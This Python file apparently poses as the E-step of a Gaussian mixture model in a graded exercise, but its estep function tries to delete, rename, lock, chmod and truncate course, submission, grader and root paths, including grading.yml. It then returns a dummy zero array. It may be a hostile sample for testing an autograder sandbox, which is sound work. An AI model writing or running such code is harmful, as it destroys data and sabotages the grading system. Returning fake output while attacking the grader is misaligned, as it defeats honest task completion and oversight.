"""Removes, truncates, renames and locks whatever can be reached."""

import fcntl
import os
import shutil

import numpy as np

PATHS = ("@course@", "@submissions@", "@results@", "@temporary@", "/course", "/grader", "/dev", "/")


def estep(X, weights, means, covariances):
    for path in PATHS:
        shutil.rmtree(path, ignore_errors=True)
        for attempt in (
            lambda: os.rename(path, path + "-gone"),
            lambda: os.chmod(path, 0),
            lambda: os.chown(path, 0, 0),
            lambda: os.truncate(f"{path}/grading.yml", 0),
            lambda: os.symlink("/scratch", f"{path}/link"),
            lambda: os.link(f"{path}/null", "/scratch/null"),
            lambda: os.mkfifo(f"{path}/pipe"),
            lambda: os.mknod(f"{path}/device"),
            lambda: os.utime(path),
            lambda: os.chroot(path),
            lambda: fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB),
        ):
            try:
                attempt()
                print("done to", path)
            except OSError:
                pass
    os.chdir("/")
    return np.zeros((len(X), len(weights)))
